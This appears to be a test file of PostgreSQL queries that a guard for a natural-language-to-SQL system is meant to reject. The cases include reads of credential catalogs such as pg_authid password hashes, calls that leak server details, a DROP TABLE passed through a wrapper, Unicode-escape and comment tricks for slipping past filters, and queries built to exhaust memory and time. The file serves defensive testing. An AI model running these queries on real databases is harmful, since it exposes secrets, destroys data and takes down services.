-- function: a call in the form of a field: x.f is f(x)
SELECT (0.5::float8).setseed

-- function: a call in the form of a field: x.f is f(x)
SELECT ('SELECT 1'::text).ts_stat

-- function: a call in the form of a field: x.f is f(x)
SELECT ('x'::text).dblink

-- function: a call in the form of a field: x.f is f(x)
SELECT (1).pg_stat_get_activity

-- type: a parse of XML in the form of a field
SELECT ('<a/>'::text).xml

-- function: tells what the asker need not know
SELECT version()

-- function: tells what the asker need not know
SELECT current_setting('data_directory')

-- function: tells what the asker need not know
SELECT current_setting('app.tenant', true)

-- function: tells what the asker need not know
SELECT pg_backend_pid()

-- function: tells what the asker need not know
SELECT pg_postmaster_start_time()

-- function: tells what the asker need not know
SELECT current_query()

-- function: tells what the asker need not know
SELECT current_schemas(true)

-- function: tells what the asker need not know
SELECT getpgusername()

-- function: tells what the asker need not know
SELECT pg_get_userbyid(10)

-- function: tells what the asker need not know
SELECT pg_get_viewdef('heavy')

-- function: tells what the asker need not know
SELECT pg_get_functiondef(1)

-- function: tells what the asker need not know
SELECT pg_get_expr('x', 0)

-- function: tells what the asker need not know
SELECT * FROM pg_stat_get_activity(NULL)

-- function: tells what the asker need not know
SELECT * FROM pg_show_all_settings()

-- function: tells what the asker need not know
SELECT pg_stat_get_backend_activity(1)

-- function: tells what the asker need not know
SELECT * FROM pg_lock_status()

-- function: tells what the asker need not know
SELECT * FROM pg_prepared_statement()

-- function: tells what the asker need not know
SELECT * FROM pg_cursor()

-- function: tells what the asker need not know
SELECT has_table_privilege('pg_authid', 'SELECT')

-- function: tells what the asker need not know
SELECT has_database_privilege('x', 'CONNECT')

-- function: tells what the asker need not know
SELECT pg_has_role('postgres', 'MEMBER')

-- function: tells what the asker need not know
SELECT row_security_active('ship')

-- function: tells what the asker need not know
SELECT to_regclass('secret')

-- function: tells what the asker need not know
SELECT to_regrole('postgres')

-- function: tells what the asker need not know
SELECT obj_description(1)

-- function: tells what the asker need not know
SELECT col_description(1, 1)

-- function: tells what the asker need not know
SELECT format_type(23, -1)

-- function: tells what the asker need not know
SELECT pg_describe_object(1, 1, 1)

-- function: tells what the asker need not know
SELECT pg_relation_size('ship')

-- function: tells what the asker need not know
SELECT pg_database_size('postgres')

-- function: tells what the asker need not know
SELECT pg_table_is_visible(1)

-- function: tells what the asker need not know
SELECT pg_typeof(1)

-- function: tells what the asker need not know
SELECT pg_conf_load_time()

-- function: tells what the asker need not know
SELECT pg_is_in_recovery()

-- function: tells what the asker need not know
SELECT pg_control_system()

-- function: tells what the asker need not know
SELECT * FROM pg_timezone_names()

-- function: tells what the asker need not know
SELECT * FROM pg_available_extensions()

-- function: tells what the asker need not know
SELECT pg_trigger_depth()

-- function: tells what the asker need not know
SELECT information_schema._pg_char_max_length(1, 1)

-- function: tells what the asker need not know
SELECT txid_snapshot_xmax(txid_current_snapshot())

-- function: tells what the asker need not know
SELECT pg_xact_commit_timestamp('1')

-- function: tells what the asker need not know
SELECT pg_blocking_pids(1)

-- function: tells what the asker need not know
SELECT aclexplode(NULL)

-- function: tells what the asker need not know
SELECT parse_secret(1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT my_function(1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT public.lower('x')

-- function: a function that is not the server's own, or not with so many arguments
SELECT freight.total(1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT other.public.lower('x')

-- function: a function that is not the server's own, or not with so many arguments
SELECT nl2sql('again')

-- function: a function that is not the server's own, or not with so many arguments
SELECT public.nl2sql('again')

-- function: a function that is not the server's own, or not with so many arguments
SELECT nl2sql.execute('DROP TABLE ship')

-- function: a function that is not the server's own, or not with so many arguments
SELECT * FROM nl2sql_run('DROP TABLE ship')

-- function: a function that is not the server's own, or not with so many arguments
SELECT lower('a', 'b', 'c')

-- function: a function that is not the server's own, or not with so many arguments
SELECT now(1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT random(1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT md5()

-- function: a function that is not the server's own, or not with so many arguments
SELECT pg_catalog.my_function(1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT "LOWER"('x')

-- function: a function that is not the server's own, or not with so many arguments
SELECT int4in('1')

-- function: a function that is not the server's own, or not with so many arguments
SELECT textout('x')

-- function: a function that is not the server's own, or not with so many arguments
SELECT array_in('{}', 1, 1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT record_out(s) FROM ship s

-- function: a function that is not the server's own, or not with so many arguments
SELECT regclass('ship')

-- function: a function that is not the server's own, or not with so many arguments
SELECT name(s), xml('<a/>') FROM ship s

-- function: a function that is not the server's own, or not with so many arguments
SELECT xid('1')

-- function: a function that is not the server's own, or not with so many arguments
SELECT * FROM ship TABLESAMPLE system_rows (10)

-- function: a function that is not the server's own, or not with so many arguments
SELECT * FROM ship TABLESAMPLE public.bernoulli (10)

-- function: a function that is not the server's own, or not with so many arguments
SELECT * FROM unknown_rows() AS x(a int)

-- function: a function that is not the server's own, or not with so many arguments
SELECT mode_x() WITHIN GROUP (ORDER BY n) FROM ship

-- function: a function that is not the server's own, or not with so many arguments
SELECT unknown_window() OVER () FROM ship

-- function: a function that is not the server's own, or not with so many arguments
SELECT xmlagg(a) FROM ship

-- function: a function that is not the server's own, or not with so many arguments
SELECT xpath('//x', '<a/>')

-- function: a function that is not the server's own, or not with so many arguments
SELECT xml_is_well_formed('<a')

-- function: a function that is not the server's own, or not with so many arguments
SELECT int4pl(1, 2)

-- function: a function that is not the server's own, or not with so many arguments
SELECT pg_column_compression('x')

-- function: a function that is not the server's own, or not with so many arguments
SELECT hash_record(s) FROM ship s

-- function: a function that is not the server's own, or not with so many arguments
SELECT amvalidate(1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT satisfies_hash_partition(1, 1, 1)

-- function: a function that is not the server's own, or not with so many arguments
SELECT system_user

-- node: XML
SELECT xmlparse(DOCUMENT '<a/>')

-- node: XML
SELECT xmlelement(name a, n) FROM ship

-- node: XML
SELECT xmlforest(n) FROM ship

-- node: XML
SELECT xmlroot('<a/>', version '1.0')

-- node: XML
SELECT xmlpi(name php)

-- node: XML
SELECT xmlconcat('<a/>', '<b/>')

-- node: XML
SELECT xmlserialize(CONTENT '<a/>' AS text)

-- node: XML
SELECT '<a/>' IS DOCUMENT

-- node: XML
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b int PATH 'b')

-- function: XML as a call
SELECT xmlexists('//a' PASSING '<a/>')

-- function: XML as a call
SELECT xmlcomment('x')

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_authid

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_catalog.pg_authid

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_shadow

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_user

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_roles

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_user_mappings

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_stat_activity

-- relation: catalogs and other users (cases G21)
SELECT query FROM pg_catalog.pg_stat_activity

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_stat_statements

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_settings

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_file_settings

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_hba_file_rules

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_class

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_proc

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_tables

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_views

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_stats

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_statistic

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_largeobject

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_locks

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_database

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_namespace

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_description

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_subscription

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_foreign_server

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_cursors

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_prepared_statements

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_replication_slots

-- relation: catalogs and other users (cases G21)
SELECT * FROM information_schema.tables

-- relation: catalogs and other users (cases G21)
SELECT * FROM information_schema.columns

-- relation: catalogs and other users (cases G21)
SELECT * FROM "information_schema"."role_table_grants"

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_toast.pg_toast_1234

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_temp.t

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_temp_3.t

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_toast_temp_1.t

-- relation: catalogs and other users (cases G21)
SELECT * FROM nl2sql.profile

-- relation: catalogs and other users (cases G21)
SELECT * FROM nl2sql.audit

-- relation: catalogs and other users (cases G21)
TABLE pg_authid

-- relation: catalogs and other users (cases G21)
SELECT 1 FROM "pg_authid"

-- relation: catalogs and other users (cases G21)
SELECT 1 FROM PG_AUTHID

-- relation: catalogs and other users (cases G21)
SELECT 1 FROM U&"pg\005fauthid"

-- relation: catalogs and other users (cases G21)
SELECT 1 FROM pg_catalog.pg_class c JOIN ship ON true

-- relation: catalogs and other users (cases G21)
SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)

-- relation: catalogs and other users (cases G21)
SELECT * FROM ship WHERE name IN (SELECT rolname FROM pg_authid)

-- relation: catalogs and other users (cases G21)
SELECT * FROM ship, LATERAL (SELECT * FROM pg_authid) x

-- relation: catalogs and other users (cases G21)
WITH a AS (SELECT * FROM pg_authid) SELECT * FROM a

-- relation: catalogs and other users (cases G21)
WITH pg_authid AS (SELECT 1) SELECT * FROM pg_authid

-- relation: catalogs and other users (cases G21)
WITH a AS (SELECT 1) SELECT * FROM a UNION SELECT 2 FROM pg_authid

-- relation: catalogs and other users (cases G21)
SELECT EXISTS (TABLE pg_shadow)

-- relation: catalogs and other users (cases G21)
SELECT ARRAY(SELECT usename FROM pg_user)

-- relation: catalogs and other users (cases G21)
SELECT * FROM ONLY pg_class

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_class TABLESAMPLE system (1)

-- relation: catalogs and other users (cases G21)
SELECT * FROM pg_my_own_table

-- relation: catalogs and other users (cases G21)
SELECT * FROM postgres.public.ship

-- relation: catalogs and other users (cases G21)
SELECT * FROM other.pg_catalog.pg_class

-- relation: catalogs and other users (cases G21)
SELECT * FROM (ship CROSS JOIN pg_authid)

-- relation: catalogs and other users (cases G21)
SELECT JSON_ARRAY(SELECT rolname FROM pg_authid)

-- column: transaction numbers and other databases
SELECT xmin FROM ship

-- column: transaction numbers and other databases
SELECT s.xmax FROM ship s

-- column: transaction numbers and other databases
SELECT cmin, cmax FROM ship

-- column: transaction numbers and other databases
SELECT name FROM ship WHERE xmin::text > '1'

-- column: transaction numbers and other databases
SELECT postgres.public.ship.id FROM ship

-- column: transaction numbers and other databases
SELECT postgres.public.ship.* FROM ship

-- type: types that tell of the catalog, or are no values
SELECT 'ship'::regclass

-- type: types that tell of the catalog, or are no values
SELECT 'pg_authid'::regclass::oid

-- type: types that tell of the catalog, or are no values
SELECT CAST('postgres' AS regrole)

-- type: types that tell of the catalog, or are no values
SELECT regproc 'pg_sleep'

-- type: types that tell of the catalog, or are no values
SELECT 'x'::regnamespace

-- type: types that tell of the catalog, or are no values
SELECT 'int4'::regtype

-- type: types that tell of the catalog, or are no values
SELECT '+'::regoper

-- type: types that tell of the catalog, or are no values
SELECT 'lower(text)'::regprocedure

-- type: types that tell of the catalog, or are no values
SELECT '{ship}'::regclass[]

-- type: types that tell of the catalog, or are no values
SELECT '{ship}'::_regclass

-- type: types that tell of the catalog, or are no values
SELECT pg_catalog.regclass 'ship'

-- type: types that tell of the catalog, or are no values
SELECT 1::oid

-- type: types that tell of the catalog, or are no values
SELECT '1'::xid

-- type: types that tell of the catalog, or are no values
SELECT '(0,1)'::tid

-- type: types that tell of the catalog, or are no values
SELECT 'x'::cstring

-- type: types that tell of the catalog, or are no values
SELECT '<a/>'::xml

-- type: types that tell of the catalog, or are no values
SELECT XML '<a/>'

-- type: types that tell of the catalog, or are no values
SELECT CAST('<a/>' AS pg_catalog.xml)

-- type: types that tell of the catalog, or are no values
SELECT NULL::pg_authid

-- type: types that tell of the catalog, or are no values
SELECT (NULL::pg_catalog.pg_class).relname

-- type: types that tell of the catalog, or are no values
SELECT NULL::pg_stat_activity

-- type: types that tell of the catalog, or are no values
SELECT NULL::information_schema.sql_identifier

-- type: types that tell of the catalog, or are no values
SELECT NULL::aclitem

-- type: types that tell of the catalog, or are no values
SELECT NULL::anyelement

-- type: types that tell of the catalog, or are no values
SELECT NULL::internal

-- type: types that tell of the catalog, or are no values
SELECT NULL::void

-- type: types that tell of the catalog, or are no values
SELECT 'c'::refcursor

-- type: types that tell of the catalog, or are no values
SELECT NULL::trigger

-- type: types that tell of the catalog, or are no values
SELECT NULL::pg_node_tree

-- type: types that tell of the catalog, or are no values
SELECT '1'::pg_lsn

-- type: types that tell of the catalog, or are no values
SELECT NULL::txid_snapshot

-- type: types that tell of the catalog, or are no values
SELECT * FROM json_to_record('{}') AS x(a regclass)

-- type: types that tell of the catalog, or are no values
SELECT * FROM jsonb_populate_record(NULL::pg_authid, '{}')

-- type: types that tell of the catalog, or are no values
SELECT * FROM ROWS FROM (json_to_record('{}') AS (a oid)) x

-- type: types that tell of the catalog, or are no values
SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (a regclass PATH '$'))

-- type: types that tell of the catalog, or are no values
SELECT JSON_VALUE('"ship"', '$' RETURNING regclass)

-- type: types that tell of the catalog, or are no values
SELECT JSON_OBJECT('a': 1 RETURNING regclass)

-- type: types that tell of the catalog, or are no values
SELECT U&"reg\0063lass" 'ship'

-- type: types that tell of the catalog, or are no values
SELECT 'x'::nl2sql.profile

-- type: types that tell of the catalog, or are no values
SELECT 'x'::a.b.c

-- type: types that tell of the catalog, or are no values
SELECT lower('x' COLLATE public.evil)

-- operator: operators of other schemas
SELECT 1 OPERATOR(public.+) 2

-- operator: operators of other schemas
SELECT 1 OPERATOR(evil.=) 2

-- operator: operators of other schemas
SELECT OPERATOR(public.-) 1

-- operator: operators of other schemas
SELECT 1 OPERATOR(public.=) ANY (ARRAY[1])

-- operator: operators of other schemas
SELECT 1 OPERATOR(evil.=) ALL (SELECT 1)

-- operator: operators of other schemas
SELECT (1, 2) OPERATOR(evil.<) (1, 2)

-- operator: operators of other schemas
SELECT * FROM ship ORDER BY n USING OPERATOR(evil.<)

-- operator: operators of other schemas
SELECT 1 OPERATOR(U&"ev\0069l".=) 2

-- operator: operators of other schemas
SELECT sum(n) OVER (ORDER BY n USING OPERATOR(evil.<)) FROM ship

-- operator: operators of other schemas
SELECT 1 OPERATOR(a.b.+) 2

-- bound: memory and time in one argument (cases G22)
SELECT * FROM generate_series(1,1e10)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(1, 10000000000)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(1, 1000000 * 1000000)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(-1e10::bigint, 0)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(1, 100, 0.00000001)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(0, 9223372036854775807)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(1, '10000000000'::bigint)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series('1'::int, 2147483647)

-- bound: memory and time in one argument (cases G22)
SELECT generate_series(1, 1e9)

-- bound: memory and time in one argument (cases G22)
SELECT * FROM ROWS FROM (generate_series(1, 1e12::bigint)) x

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM pg_catalog.generate_series(1, 2000000000)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(1, 0xFFFFFFFF)

-- bound: memory and time in one argument (cases G22)
SELECT count(*) FROM generate_series(- -9999999999, 1)

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', 2000000000)

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', 2e9::int)

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', 1000 * 1000 * 1000)

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', (SELECT 1000000000))

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', n) FROM ship

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', length(repeat('x', 10000)) * 100000)

-- bound: memory and time in one argument (cases G22)
SELECT repeat(repeat('x', 10000), 10000)

-- bound: memory and time in one argument (cases G22)
SELECT repeat(lpad('x', 10000), 10000)

-- bound: memory and time in one argument (cases G22)
SELECT repeat(lower(repeat('x', 10000)), 10000)

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', greatest(1, 1000000000))

-- bound: memory and time in one argument (cases G22)
SELECT repeat('x', least(n, 1000000000)) FROM ship

-- bound: memory and time in one argument (cases G22)
SELECT length(pg_catalog.repeat('x', 1000000000))

-- bound: memory and time in one argument (cases G22)
SELECT lpad('x', 1000000000)

-- bound: memory and time in one argument (cases G22)
SELECT rpad('x', 1000000000, 'y')

-- bound: memory and time in one argument (cases G22)
SELECT lpad('x', n * 1000000) FROM ship

-- bound: memory and time in one argument (cases G22)
SELECT array_fill(0, ARRAY[100000000])

-- bound: memory and time in one argument (cases G22)
SELECT array_fill(0, ARRAY[10000, 10000])

-- bound: memory and time in one argument (cases G22)
SELECT array_fill(0, ARRAY[n]) FROM ship

-- bound: memory and time in one argument (cases G22)
SELECT array_fill(0, '{100000000}'::int[])

-- bound: memory and time in one argument (cases G22)
SELECT format('%1000000000s', 'x')

-- bound: memory and time in one argument (cases G22)
SELECT format('%*s', 1000000000, 'x')

-- bound: memory and time in one argument (cases G22)
SELECT format('%1$1000000000s', 'x')

-- bound: memory and time in one argument (cases G22)
SELECT format('%-1000000000s', 'x')

-- bound: memory and time in one argument (cases G22)
SELECT format(name, 'x') FROM ship

-- bound: memory and time in one argument (cases G22)
SELECT format('%2$*1$s', 1000000000, 'x')

-- function: a comment before UESCAPE
SELECT U&"pg!005fsleep" /* x */ UESCAPE '!' (1)

-- relation: a line comment before UESCAPE
SELECT * FROM U&"pg!005fauthid" -- x
UESCAPE '!'

-- parse: no literal goes on after a comment of the other kind
SELECT 'a' /*
*/ 'b'

-- function: VARIADIC where no argument is
SELECT repeat(VARIADIC ARRAY['x', '1000000000'])

-- function: VARIADIC of a function that counts its arguments
SELECT * FROM generate_series(VARIADIC ARRAY[1, 2000000000])

-- relation: the statistics view an extension puts into the public schema
SELECT query FROM public.pg_stat_statements

-- bound: a bound behind many signs
SELECT * FROM generate_series(1, - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - 1e10)

-- bound: a length behind many casts
SELECT repeat('x', 1000000000::int::bigint::numeric::int)

-- bound: a format that is put together
SELECT format('%' || '1000000000s', 'x')

-- bound: a power of too many digits
SELECT 9.99999 ^ 99999

-- bound: a power of too many digits by its function
SELECT power(2.5::numeric, 100000 + 1)

-- bound: a power by the function's other name
SELECT pow(2, -5000)

-- bound: a factorial of too much
SELECT factorial(30000)

-- bound: a factorial of a column
SELECT factorial(n) FROM ship

-- bound: a number made long by its exponent
SELECT (1e60000 + 1) * 2

-- bound: more powers than any question needs
SELECT n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2, n ^ 2 FROM ship

-- bound: more products than any question needs
SELECT n * 1 * 2 * 3 * 4 * 5 * 6 * 7 * 8 * 9 * 10 * 11 * 12 * 13 * 14 * 15 * 16 * 17 * 18 * 19 * 20 * 21 * 22 * 23 * 24 * 25 * 26 * 27 * 28 * 29 * 30 * 31 * 32 * 33 * 34 * 35 * 36 * 37 * 38 * 39 * 40 * 41 * 42 * 43 * 44 * 45 * 46 * 47 * 48 * 49 * 50 * 51 * 52 * 53 * 54 * 55 * 56 * 57 * 58 * 59 * 60 * 61 * 62 FROM ship

-- bound: products of what may be very long
SELECT x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x, x * x FROM (SELECT string_agg(name, '')::numeric AS x FROM ship) q

-- size: subqueries that double, which the planner unfolds
SELECT length(a) FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT a || a AS a FROM (SELECT 'x' || n AS a FROM ship) z) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y

-- size: WITH queries that double
WITH a0 AS (SELECT id + id AS x FROM ship), a1 AS (SELECT x + x AS x FROM a0), a2 AS (SELECT x + x AS x FROM a1), a3 AS (SELECT x + x AS x FROM a2), a4 AS (SELECT x + x AS x FROM a3), a5 AS (SELECT x + x AS x FROM a4), a6 AS (SELECT x + x AS x FROM a5), a7 AS (SELECT x + x AS x FROM a6), a8 AS (SELECT x + x AS x FROM a7), a9 AS (SELECT x + x AS x FROM a8), a10 AS (SELECT x + x AS x FROM a9), a11 AS (SELECT x + x AS x FROM a10), a12 AS (SELECT x + x AS x FROM a11), a13 AS (SELECT x + x AS x FROM a12), a14 AS (SELECT x + x AS x FROM a13), a15 AS (SELECT x + x AS x FROM a14), a16 AS (SELECT x + x AS x FROM a15), a17 AS (SELECT x + x AS x FROM a16), a18 AS (SELECT x + x AS x FROM a17), a19 AS (SELECT x + x AS x FROM a18), a20 AS (SELECT x + x AS x FROM a19), a21 AS (SELECT x + x AS x FROM a20), a22 AS (SELECT x + x AS x FROM a21), a23 AS (SELECT x + x AS x FROM a22), a24 AS (SELECT x + x AS x FROM a23) SELECT x FROM a24

-- size: LATERAL subqueries that double
SELECT z20.a FROM (SELECT 'x' || n AS a FROM ship) z0, LATERAL (SELECT z0.a || z0.a AS a) z1, LATERAL (SELECT z1.a || z1.a AS a) z2, LATERAL (SELECT z2.a || z2.a AS a) z3, LATERAL (SELECT z3.a || z3.a AS a) z4, LATERAL (SELECT z4.a || z4.a AS a) z5, LATERAL (SELECT z5.a || z5.a AS a) z6, LATERAL (SELECT z6.a || z6.a AS a) z7, LATERAL (SELECT z7.a || z7.a AS a) z8, LATERAL (SELECT z8.a || z8.a AS a) z9, LATERAL (SELECT z9.a || z9.a AS a) z10, LATERAL (SELECT z10.a || z10.a AS a) z11, LATERAL (SELECT z11.a || z11.a AS a) z12, LATERAL (SELECT z12.a || z12.a AS a) z13, LATERAL (SELECT z13.a || z13.a AS a) z14, LATERAL (SELECT z14.a || z14.a AS a) z15, LATERAL (SELECT z15.a || z15.a AS a) z16, LATERAL (SELECT z16.a || z16.a AS a) z17, LATERAL (SELECT z17.a || z17.a AS a) z18, LATERAL (SELECT z18.a || z18.a AS a) z19, LATERAL (SELECT z19.a || z19.a AS a) z20

-- size: whole rows that double
SELECT y FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT y AS a, y AS b FROM (SELECT n + 1 AS a FROM ship) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y) y

-- size: doubling under column aliases
SELECT a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT a || a FROM (SELECT 'x' || n AS a FROM ship) z) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)) y(a)
